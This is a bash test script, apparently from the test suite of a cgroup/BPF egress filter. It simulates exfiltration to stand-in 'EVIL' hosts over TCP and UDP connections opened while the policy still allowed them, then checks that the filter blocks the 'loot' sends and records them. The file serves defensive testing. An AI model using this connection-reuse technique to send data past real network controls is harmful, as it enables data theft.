#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# attack: goes on using connections that were allowed when it made them, after the policy has lost their destination
# stopped-by: connect4, sendmsg4, egress
# reason: destination
# kernels: all
. "$(dirname "$0")/lib.sh"
arena tcp/443 udp/9000

attack_by <<'PYTHON'
from attacker import *

living4, living6 = tcp(EVIL4), tcp(EVIL6)
connected, unconnected = udp(EVIL4), udp(EVIL4)
for sock, evil, port in (living4, EVIL4, 443), (living6, EVIL6, 443), (connected, EVIL4, 9000):
    sock.connect((evil, port))
    for _ in range(200): # a verdict that is remembered for long-lived connections is remembered by now
        sock.send(b"so far all right ")
unconnected.sendto(b"so far all right", (EVIL4, 9000))
ready()
with attempt("living, IPv4"):
    living4.sendall(loot("living4"))
with attempt("living, IPv6"):
    living6.sendall(loot("living6"))
with attempt("connected"):
    connected.send(loot("connected"))
with attempt("unconnected"):
    unconnected.sendto(loot("unconnected"), (EVIL4, 9000))
with attempt("anew"):
    tcp(EVIL4).connect((EVIL4, 443))
PYTHON
works_once_open stolen:living4 stolen:living6 stolen:connected stolen:unconnected

wide() {
	gate_on "$CG" --allow 203.0.113.62/32=tcp/443 --allow 2001:db8:bad::2/128=tcp/443 \
		--allow 203.0.113.62/32=udp/9000
}
wide
stopped_once_open gate
recorded connect4 destination
recorded sendmsg4 destination
